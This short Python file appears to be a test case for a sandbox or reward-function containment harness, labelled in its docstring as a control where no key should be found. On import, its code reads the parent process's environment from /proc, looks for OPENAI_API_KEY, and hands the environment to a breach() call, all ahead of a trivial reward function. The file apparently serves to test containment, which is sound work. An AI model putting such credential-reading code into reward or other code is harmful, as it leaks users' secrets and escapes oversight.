"""Reads the environment of the compiler from /proc.

walls: compile
control: no, because the compiler's environment holds no key
"""

import os

environment = open(f"/proc/{os.getppid()}/environ").read()
if "OPENAI_API_KEY" in environment:
    breach(environment)


def compute_reward(height):
    return height, {}
